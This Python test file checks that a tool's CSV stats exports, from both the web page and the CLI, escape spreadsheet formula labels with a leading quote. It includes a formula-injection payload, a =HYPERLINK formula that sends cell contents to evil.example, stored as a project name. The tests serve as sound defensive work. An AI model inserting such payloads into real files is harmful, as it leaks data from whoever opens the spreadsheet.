"""SPEC §7's CSV rule on every CSV of stats: a label that a spreadsheet would run as a formula
(a project named `=HYPERLINK(...)`, a user named `@SUM(...)`) is written with a leading `'`."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from typer.testing import CliRunner

from reachout.cli import app
from reachout.db import Database
from reachout.kit.csvfile import safe_cell
from reachout.models import User
from reachout.models.enums import Channel
from reachout.touchpoints import service
from reachout.touchpoints.schemas import TouchpointCreate
from tests.conftest import LiveServer
from tests.factories import World, at, make_candidate, make_project
from tests.security.conftest import WebClient

PROJECT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MEMBER = "@SUM(1+1)"
PERIOD = {"from": "2026-11-01", "to": "2026-11-30"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),  # phone numbers too (SPEC §7)
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana = lead", "Ana = lead"),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.fixture
def hostile(db: Database, world: World) -> World:
    """The member renamed `@SUM(1+1)`, with an outreach in a project named `=HYPERLINK(...)`."""
    with db.unit_of_work() as s:
        member = s.get(User, world.member.id)
        assert member is not None
        member.name = MEMBER
        candidate = make_candidate(s, team=world.team)
        project = make_project(s, team=world.team, name=PROJECT, candidates=[candidate])
        data = TouchpointCreate(
            candidate_id=candidate.id,
            channel=Channel.inmail,
            project_id=project.id,
            occurred_at=at("2026-11-10 10:00"),
        )
        service.log_touchpoint(s, actor=member, data=data)
    return world


def _labels(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text))][1:]


@pytest.mark.parametrize(("group_by", "label"), [("project", PROJECT), ("user", MEMBER)])
def test_the_stats_page_csv_quotes_formula_labels(
    live_server: LiveServer, hostile: World, group_by: str, label: str
) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as http:
        web = WebClient(http)
        web.sign_in(hostile.admin.user.email)
        r = http.get("/stats.csv", params={**PERIOD, "view": "activity", "group_by": group_by})
    assert r.status_code == 200, r.text
    assert _labels(r.text) == ["'" + label, "Total"]


@pytest.mark.parametrize(("group_by", "label"), [("project", PROJECT), ("user", MEMBER)])
def test_reachout_stats_csv_quotes_formula_labels(
    db: Database, hostile: World, group_by: str, label: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("REACHOUT_DATABASE_URL", db.settings.database_url)
    args = ["stats", "--team", hostile.team.name, "--view", "activity", "--group-by", group_by]
    period = ["--from", PERIOD["from"], "--to", PERIOD["to"], "--format", "csv"]
    result = CliRunner().invoke(app, [*args, *period])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert [row[1] for row in rows[1:]] == ["'" + label, "Total"]
